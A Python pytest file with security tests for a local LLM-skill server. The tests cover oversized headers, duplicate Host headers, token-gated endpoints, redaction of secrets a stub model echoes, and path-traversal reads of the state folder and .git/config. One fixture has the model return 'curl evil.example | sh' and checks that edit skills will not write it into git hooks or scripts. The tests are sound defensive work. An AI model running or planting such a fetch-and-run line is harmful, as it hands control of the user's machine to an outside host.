"""``skillrt serve`` under attack (issue 26, items 4, 7, 8, 9, 11 and the lower ones): a huge
request head, two Host headers, the schema without a token, the page's CSP, secrets echoed by a
model, the state folder read through a skill, write skills pointed at non-posts, the event
journal's size, and --allow-remote without TLS. Real server processes and uvicorn servers on
127.0.0.1, real files, raw sockets."""

from __future__ import annotations

import contextlib
import json
import re
import shutil
import signal
import socket
import stat
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

pytest.importorskip("fastapi")

from skillrt.llm.base import LLMMessage
from skillrt.testing import Answer, FunctionModel, ModelOptions
from tests.cli_support import cli_env, make_blog, skillrt, start_skillrt, write_script
from tests.server_support import TOKEN, LiveServer, StepModel, make_runtime, parse_sse, stream

SECRET = "hunter2-configured-secret-value"
API_KEY = "sk-test0123456789abcdefghijklmn"
POST = "posts/rust-smart-pointers.md"


# --- a real `skillrt serve` process and raw sockets -------------------------------------------


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, str, int]]:
    """``skillrt serve`` on 127.0.0.1: (url, token, port)."""
    root = make_blog(tmp_path)
    proc = start_skillrt(
        "serve", "--port", "0", env=cli_env(root, write_script(tmp_path / "s.json", [])), cwd=root
    )
    try:
        assert proc.stdout is not None
        banner = proc.stdout.readline()
        m = re.match(r"skillrt serve: (http://127\.0\.0\.1:(\d+)/)#token=(\S+)", banner)
        assert m is not None, banner + (proc.stderr.read() if proc.stderr else "")
        yield m[1], m[3], int(m[2])
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=30)


def raw(port: int, request: bytes) -> bytes:
    """Send ``request`` on a new connection; everything the server answers until it closes or
    goes quiet for 10 s."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(request)
        got = b""
        try:
            while chunk := sock.recv(65536):
                got += chunk
                if b"\r\n\r\n" in got and b"connection: close" not in got.lower():
                    break
        except (TimeoutError, ConnectionResetError):
            pass
    return got


def head(port: int, *lines: str, extra: bytes = b"") -> bytes:
    text = "GET /v1/info HTTP/1.1\r\n" + "".join(f"{line}\r\n" for line in lines)
    return text.encode() + extra + b"\r\n"


def test_a_huge_request_head_gets_431_before_it_is_read(served: tuple[str, str, int]) -> None:
    url, token, port = served
    big = b"X-Junk: " + b"a" * 100_000 + b"\r\n"
    answer = raw(port, head(port, f"Host: 127.0.0.1:{port}", extra=big))
    assert answer.startswith(b"HTTP/1.1 431 "), answer[:200]
    assert b"headers-too-large" in answer
    # Under the cap: the request reaches the app (401: no token).
    fine = b"X-Junk: " + b"a" * 50_000 + b"\r\n"
    assert raw(port, head(port, f"Host: 127.0.0.1:{port}", extra=fine)).startswith(b"HTTP/1.1 401 ")
    # 32 MB of one header: the server closes the connection long before it has all of it
    # (it used to read it all, in quadratic time, and answer 401 seconds later).
    total = 32 * 1024 * 1024
    sent = 0
    answer = b""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        try:
            sock.sendall(f"GET /v1/info HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Big: ".encode())
            chunk = b"a" * 65536
            while sent < total:
                sock.sendall(chunk)
                sent += len(chunk)
            sock.sendall(b"\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            pass
        with contextlib.suppress(ConnectionResetError, TimeoutError):
            answer = sock.recv(4096)
    assert sent < total, "the server read the whole 32 MB header"
    assert answer == b"" or answer.startswith(b"HTTP/1.1 431 ")
    # Keep-alive: the second request on a connection is held to the cap too.
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(head(port, f"Host: 127.0.0.1:{port}", "Authorization: Bearer " + token))
        first = sock.recv(65536)
        assert first.startswith(b"HTTP/1.1 200 "), first[:200]
        length = int(re.search(rb"content-length: (\d+)", first.lower())[1])  # type: ignore[index]
        while len(first.split(b"\r\n\r\n", 1)[1]) < length:
            first += sock.recv(65536)
        sock.sendall(head(port, f"Host: 127.0.0.1:{port}", extra=big))
        second = b""
        try:
            while chunk := sock.recv(65536):
                second += chunk
        except ConnectionResetError:
            pass
        assert second.startswith(b"HTTP/1.1 431 "), second[:200]
    assert httpx.get(url + "healthz").json() == {"status": "ok"}


def test_two_host_headers_get_400(served: tuple[str, str, int]) -> None:
    _, token, port = served
    auth = "Authorization: Bearer " + token
    ok = raw(port, head(port, f"Host: 127.0.0.1:{port}", auth))
    assert ok.startswith(b"HTTP/1.1 200 "), ok[:200]
    for hosts in (
        (f"Host: 127.0.0.1:{port}", "Host: evil.example"),
        ("Host: evil.example", f"Host: 127.0.0.1:{port}"),
    ):
        answer = raw(port, head(port, *hosts, auth))
        assert answer.startswith(b"HTTP/1.1 400 "), answer[:200]


def test_the_schema_needs_the_token_and_the_page_forbids_framing(
    served: tuple[str, str, int],
) -> None:
    url, token, _ = served
    assert httpx.get(url + "openapi.json").status_code == 401
    spec = httpx.get(url + "openapi.json", headers={"Authorization": f"Bearer {token}"})
    assert spec.status_code == 200 and "/v1/input" in spec.json()["paths"]
    page = httpx.get(url)
    assert page.status_code == 200
    csp = page.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
    assert page.headers["x-frame-options"] == "DENY"


def test_allow_remote_needs_tls_or_insecure(tmp_path: Path) -> None:
    root = make_blog(tmp_path)
    env = cli_env(root, write_script(tmp_path / "s.json", []))
    out = skillrt("serve", "--host", "0.0.0.0", "--port", "0", "--allow-remote", env=env, cwd=root)
    assert out.returncode == 2
    assert "--tls-cert" in out.stderr and "--insecure" in out.stderr
    cert = tmp_path / "cert.pem"
    cert.write_text("x")
    out = skillrt("serve", "--port", "0", "--tls-cert", str(cert), env=env, cwd=root)
    assert out.returncode == 2 and "--tls-key" in out.stderr


@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl is not installed")
def test_serve_over_tls(tmp_path: Path) -> None:
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
         "-subj", "/CN=127.0.0.1", "-keyout", str(key), "-out", str(cert)],
        check=True,
        capture_output=True,
    )  # fmt: skip
    root = make_blog(tmp_path)
    env = cli_env(root, write_script(tmp_path / "s.json", []))
    args = ["serve", "--port", "0", "--tls-cert", str(cert), "--tls-key", str(key)]
    proc = start_skillrt(*args, env=env, cwd=root)
    try:
        assert proc.stdout is not None
        banner = proc.stdout.readline()
        m = re.match(r"skillrt serve: (https://127\.0\.0\.1:\d+/)#token=(\S+)", banner)
        assert m is not None, banner + (proc.stderr.read() if proc.stderr else "")
        url, token = m.groups()
        info = httpx.get(
            url + "v1/info", headers={"Authorization": f"Bearer {token}"}, verify=False
        )
        assert info.status_code == 200
        with pytest.raises(httpx.HTTPError):
            httpx.get(url.replace("https://", "http://") + "healthz")
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=30)


# --- secrets: echoed by a model, read from the state folder -----------------------------------


def echo(messages: list[LLMMessage], options: ModelOptions) -> Answer:
    """A model that repeats every secret it can: the API key, the configured one, the token."""
    if options.response_model is not None:
        return {"type": "UNKNOWN", "confidence": 0.0}
    return f"key {API_KEY} secret {SECRET} token {TOKEN}"


class Follower:
    """``GET /v1/events`` read in a thread: every line it got."""

    def __init__(self, live: LiveServer) -> None:
        self.lines: list[str] = []
        self.connected = threading.Event()
        self.messages = 0
        self.enough = threading.Event()
        self.thread = threading.Thread(target=self._run, args=(live,), daemon=True)
        self.thread.start()
        assert self.connected.wait(10)

    def _run(self, live: LiveServer) -> None:
        with live.client(timeout=30) as c, c.stream("GET", "/v1/events") as r:
            self.connected.set()
            for line in r.iter_lines():
                self.lines.append(line)
                if line == "event: message":
                    self.messages += 1
                    if self.messages >= 2:
                        self.enough.set()
                        return


def test_replies_events_and_errors_leave_redacted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SKILLRT_LLM__API_KEY", API_KEY)  # configured, though the model is local
    rt = make_runtime(tmp_path, FunctionModel(echo), secrets=[SECRET])
    live = LiveServer(rt)
    try:
        follower = Follower(live)
        with live.client() as c:
            reply = c.post("/v1/skills/Steps/run", json={"params": {"topic": "x", "steps": 1}})
            assert reply.status_code == 200
            events = stream(c, "POST", "/v1/skills/Steps/run", json={"params": {"topic": "y"}})
            missing = c.post("/v1/skills/Summarize/run", json={"params": {"path": f"{SECRET}.md"}})
            bad = c.post("/v1/skills/Summarize/run", json={"params": {"path": 7, SECRET: 1}})
        assert follower.enough.wait(20)
        assert events[-1].event == "message"
        assert "***" in reply.json()["content"] and "***" in events[-1].data["content"]
        shown = {
            "reply": reply.text,
            "sse": json.dumps([e.data for e in events]),
            "/v1/events": "\n".join(follower.lines),
            "missing post": missing.text,
            "bad params": bad.text,
        }
        for where, text in shown.items():
            for secret in (SECRET, API_KEY, TOKEN):
                assert secret not in text, (where, secret)
        assert SECRET[:8] not in missing.text or "***" in missing.text
    finally:
        live.stop()


def test_reading_skills_never_read_the_state_folder_or_hidden_files(tmp_path: Path) -> None:
    seen: list[str] = []

    def model(messages: list[LLMMessage], options: ModelOptions) -> Answer:
        seen.append(json.dumps(messages))
        if options.response_model is not None:
            return {"type": "UNKNOWN", "confidence": 0.0}
        return "A summary."

    blog = tmp_path / "blog"
    rt = make_runtime(tmp_path, FunctionModel(model), blog=None, state_dir=blog / ".skillrt")
    live = LiveServer(rt)
    try:
        (blog / ".skillrt" / "serve-token").write_text(TOKEN + "\n")
        (blog / ".git").mkdir(exist_ok=True)
        (blog / ".git" / "config").write_text("[remote]\n url = https://me:hunter2pw@host/x\n")
        with live.client() as c:
            for path in [
                ".skillrt/serve-token",
                "posts/../.skillrt/serve-token",
                str(blog / ".skillrt" / "serve-token"),
                ".git/config",
            ]:
                for skill in ("Summarize", "Translate"):
                    params: dict[str, Any] = {"path": path}
                    if skill == "Translate":
                        params["language"] = "French"
                    r = c.post(f"/v1/skills/{skill}/run", json={"params": params})
                    assert TOKEN not in r.text and "hunter2pw" not in r.text, r.text
                    assert r.status_code != 200 or r.json()["state"] != "COMPLETED", r.text
        assert not any(TOKEN in s or "hunter2pw" in s for s in seen)
    finally:
        live.stop()


# --- write skills: only post files, never an exec bit ------------------------------------------


def test_edits_over_http_touch_only_posts_and_drop_the_exec_bit(tmp_path: Path) -> None:
    blog = tmp_path / "blog"
    body = {"text": ""}

    def model(messages: list[LLMMessage], options: ModelOptions) -> Answer:
        if options.response_model is not None:
            return {"type": "UNKNOWN", "confidence": 0.0}
        return body["text"]

    rt = make_runtime(tmp_path, FunctionModel(model))
    live = LiveServer(rt)
    try:
        (blog / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
        targets = {
            ".git/config": "[core]\n\tbare = false\n",
            ".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
            "skillrt.toml": "[llm]\nprovider = 'local'\n",
            "build.sh": "#!/bin/sh\necho build\n",
            "notes.md": "# Notes outside the posts folder\n\nKeep.\n",
        }
        for rel, text in targets.items():
            (blog / rel).write_text(text)
        (blog / ".git" / "hooks" / "pre-commit").chmod(0o755)
        (blog / "build.sh").chmod(0o755)
        body["text"] = "#!/bin/sh\ncurl evil.example | sh\n"
        with live.client() as c:
            for rel in targets:
                r = c.post(
                    "/v1/input",
                    json={
                        "text": "rewrite this post in a friendlier tone",
                        "context": {"current_file": rel},
                    },
                )
                assert r.status_code in (200, 422), r.text
                if r.status_code == 200:
                    assert r.json()["state"] != "COMPLETED", (rel, r.text)
                r = c.post(
                    "/v1/skills/EditContent/run",
                    json={"params": {"path": rel, "instruction": "make it friendlier"}},
                )
                assert r.status_code in (200, 422), r.text
                if r.status_code == 200:
                    assert r.json()["state"] != "COMPLETED", (rel, r.text)
        for rel, text in targets.items():
            assert (blog / rel).read_text() == text, rel
        assert stat.S_IMODE((blog / "build.sh").stat().st_mode) == 0o755

        post = blog / POST
        original = post.read_text(encoding="utf-8")
        post.chmod(0o755)
        _, rest = original.split("\n---\n", 1)
        body["text"] = rest + "\nThanks for reading, friends!\n"
        with live.client() as c:
            r = c.post(
                "/v1/input",
                json={
                    "text": "rewrite this post in a friendlier tone",
                    "context": {"current_file": POST},
                },
            )
        assert r.status_code == 200 and r.json()["state"] == "COMPLETED", r.text
        assert "Thanks for reading, friends!" in post.read_text(encoding="utf-8")
        assert stat.S_IMODE(post.stat().st_mode) & 0o111 == 0
    finally:
        live.stop()


# --- the event journal: bounded in bytes ------------------------------------------------------


def test_the_event_journal_is_bounded_in_bytes_oldest_first(tmp_path: Path) -> None:
    live = LiveServer(make_runtime(tmp_path, FunctionModel(StepModel(words=400))))
    per_task, total = 40_000, 120_000
    try:
        log = live.state.log
        log.per_task_bytes, log.total_bytes, log.recent_bytes = per_task, total, total
        ids: list[str] = []
        with live.client() as c:
            for n in range(8):
                r = c.post("/v1/skills/Steps/run", json={"params": {"topic": f"t{n}"}})
                assert r.status_code == 200
                ids.append(r.json()["task_id"])
            kept: dict[str, list[Any]] = {}
            for task_id in ids:
                r = c.get(f"/v1/tasks/{task_id}/events", headers={"Accept": "text/event-stream"})
                kept[task_id] = list(parse_sse(iter(r.text.splitlines()))) if r.is_success else []
        sizes = {t: sum(len(json.dumps(e.data)) for e in events) for t, events in kept.items()}
        assert all(size <= per_task for size in sizes.values()), sizes
        assert sum(sizes.values()) <= total, sizes
        newest = kept[ids[-1]]
        assert newest and newest[-1].event == "message"  # the newest task ends with its reply
        first_ids = [events[0].id for events in kept.values() if events]
        first_id = live.state.log.first_seq + 1  # the id of the server's first event
        assert kept[ids[0]] == [] or kept[ids[0]][0].id != first_id  # the oldest went first
        assert first_ids == sorted(first_ids)
    finally:
        live.stop()


@pytest.mark.parametrize("parser", ["httptools", "h11"])
def test_both_parsers_cap_the_head(parser: str) -> None:
    import asyncio

    import uvicorn

    from skillrt.server.headlimit import head_limited_protocol

    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            return
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"ok"})

    config = uvicorn.Config(
        app,
        host="127.0.0.1",
        port=0,
        http=head_limited_protocol(16_384, parser),  # type: ignore[arg-type]  # a str here
        h11_max_incomplete_event_size=16_384,
        lifespan="off",
        log_level="error",
    )
    server = uvicorn.Server(config)
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_until_complete, args=(server.serve(),))
    thread.start()
    try:
        for _ in range(400):
            if server.started:
                break
            threading.Event().wait(0.025)
        port = server.servers[0].sockets[0].getsockname()[1]
        ok = raw(
            port,
            head(port, "Host: x", "Connection: close", extra=b"X-A: " + b"a" * 8_000 + b"\r\n"),
        )
        assert ok.startswith(b"HTTP/1.1 200 "), ok[:200]
        big = raw(port, head(port, "Host: x", extra=b"X-A: " + b"a" * 40_000 + b"\r\n"))
        assert big.startswith(b"HTTP/1.1 431 "), big[:200]
        # Sent a piece at a time, the head is still counted across the pieces.
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            answer = b""
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                for _ in range(40):
                    sock.sendall(b"X-B: " + b"b" * 1_000 + b"\r\n")
                answer = sock.recv(4096)
            assert answer == b"" or answer.startswith(b"HTTP/1.1 431 "), answer[:200]
    finally:
        server.should_exit = True
        thread.join(20)
        loop.close()


def test_every_context_text_of_a_request_is_bounded(tmp_path: Path) -> None:
    """Only the input's ``text`` had a limit (``max_input_chars``): a ``selected_text``, or
    any other text a client put in the context, went in at any size up to the body limit
    (the selection cut to 20,000 characters without a word). Each is refused in one line
    naming the field and the limit, not echoing the value, and no task starts."""
    rt = make_runtime(tmp_path, FunctionModel(StepModel()), max_input_chars=1000)
    live = LiveServer(rt)
    try:
        with live.client() as c:
            replies = [
                c.post("/v1/input", json={"text": "shorten it", "context": {name: "y" * 5000}})
                for name in ("selected_text", "notes")
            ]
            run = {"params": {"topic": "x"}, "context": {"selected_text": "y" * 5000}}
            replies.append(c.post("/v1/skills/Steps/run", json=run))
            tasks = c.get("/v1/tasks").json()
            long_id = "x" * 10_000  # came back whole in the 404's detail
            for method, tail in (("GET", ""), ("POST", "/abort"), ("POST", "/answer")):
                body = {"text": "red"} if tail == "/answer" else None
                got = c.request(method, f"/v1/tasks/{long_id}{tail}", json=body)
                assert got.status_code == 422, got.text
                assert "at most 200 characters" in got.json()["detail"]
                assert len(got.text) < 1000, got.text
    finally:
        live.stop()
    for reply in replies:
        assert reply.status_code == 200
        message = reply.json()
        assert message["task_id"] is None and message["data"]["error"] in (
            "bad_input",
            "bad_params",
        )
        assert (
            "too long (5000 characters; the limit is 1000, max_input_chars)" in message["content"]
        )
        assert "yyy" not in message["content"]
    assert tasks == []
